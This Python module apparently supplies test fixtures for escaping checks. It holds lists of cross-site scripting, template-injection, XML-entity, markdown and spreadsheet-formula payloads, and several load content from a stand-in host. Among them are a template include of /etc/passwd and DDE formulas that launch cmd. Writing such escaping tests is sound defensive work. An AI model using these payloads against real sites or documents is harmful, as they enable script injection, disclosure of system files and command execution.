"""Texts that would do something if anything but a reader's eye read them."""

MARK = "ckOwned"
"""What a payload sets, calls or asks for when it comes alive."""
_FAR = f"https://{MARK.lower()}.example"
_RUN = f"window.{MARK}=1;alert({MARK!r})".replace("'", "&#39;")

HTML = (
    f"<script>window.{MARK}=1;alert(1)</script>",
    f"</script><script>window.{MARK}=1</script>",
    f"<ScRiPt>window.{MARK}=1</sCrIpT>",
    f"<script src={_FAR}/a.js></script>",
    f'"><script>window.{MARK}=1</script>',
    f"'><img src=x onerror=window.{MARK}=1>",
    f'<img src=x onerror="window.{MARK}=1">',
    f"<img src={_FAR}/a.png>",
    f"<svg onload=window.{MARK}=1>",
    f"<svg><script>window.{MARK}=1</script></svg>",
    f"<svg><animate onbegin=window.{MARK}=1 attributeName=x dur=1s>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror=window.{MARK}=1>",
    f"<iframe src=javascript:window.{MARK}=1></iframe>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<object data={_FAR}></object>",
    f"<embed src={_FAR}>",
    f"<link rel=stylesheet href={_FAR}/a.css>",
    f"<style>@import '{_FAR}/a.css';body{{display:none}}</style>",
    f"<base href={_FAR}/>",
    f"<meta http-equiv=refresh content='0;url={_FAR}'>",
    f"<form action={_FAR}><button autofocus onfocus=window.{MARK}=1>x</button></form>",
    f"<input autofocus onfocus=window.{MARK}=1>",
    f"<details open ontoggle=window.{MARK}=1>x</details>",
    f"<video><source onerror=window.{MARK}=1></video>",
    f"<audio src={_FAR}/a.mp3 autoplay></audio>",
    f"<body onload=window.{MARK}=1>",
    f"<marquee onstart=window.{MARK}=1>x</marquee>",
    f"<a href=javascript:window.{MARK}=1>x</a>",
    f"<template><script>window.{MARK}=1</script></template>",
    "</title></head><body><h1>x</h1>",
    "</article></main></div></body></html>",
    "<!-- <p>x",
    "--><p>x",
    f'<noscript><p title="</noscript><img src=x onerror=window.{MARK}=1>">',
    f"<textarea></textarea><img src=x onerror=window.{MARK}=1>",
)
ATTRIBUTES = (
    f'" onmouseover="window.{MARK}=1',
    f"' autofocus onfocus='window.{MARK}=1",
    f'" style="background:url({_FAR}/a.png)',
    f"x` onerror=window.{MARK}=1 `",
    f"&#34; onload=&#34;window.{MARK}=1",
    f"&lt;script&gt;window.{MARK}=1&lt;/script&gt;",
    f"&amp;lt;img src=x onerror=window.{MARK}=1&amp;gt;",
    f"javascript:window.{MARK}=1",
    f"data:text/html,x{MARK}",
)
MARKDOWN = (
    f"[x](javascript:window.{MARK}=1)",
    f"![x]({_FAR}/a.png)",
    f"[x]: {_FAR} 'x'",
    f"<{_FAR}>",
    "# x",
    "```html x```",
    f"**x** [x]({_FAR}) {{: onclick=window.{MARK}=1 }}",
    "| a | b | --- | --- |",
    "!!! note x",
    '--8<-- "city.yaml"',
)
TEMPLATES = (
    "{{ 7 * 191 }}",
    "{% raw %}{{ city }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    "${7*191}",
    "<%= 7*191 %>",
    "__body__ __title__ __slug__ __description__",
    "%(x)s {x} {0} %s",
)
MARKUP = (
    f"]]><script>window.{MARK}=1</script>",
    f"<![CDATA[<script>window.{MARK}=1</script>]]>",
    f"<?xml-stylesheet href='{_FAR}/a.xsl'?>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{_FAR}'>]>&e;",
    f"</title></entry><entry><link href='{_FAR}'/>",
    f"</speak><audio src='{_FAR}/a.wav'/>",
    "<break time='3600s'/>",
    f'","x":"</script><script>window.{MARK}=1</script>',
    f'\\"}};window.{MARK}=1;//',
    "\\u003cscript\\u003e",
    "END:VEVENT\\nBEGIN:VALARM",
)
FORMULAS = (
    "=HYPERLINK(1)",
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
)
"""These are refused by the check, so that they reach no spreadsheet."""
INERT = (*HTML, *ATTRIBUTES, *MARKDOWN, *TEMPLATES, *MARKUP)
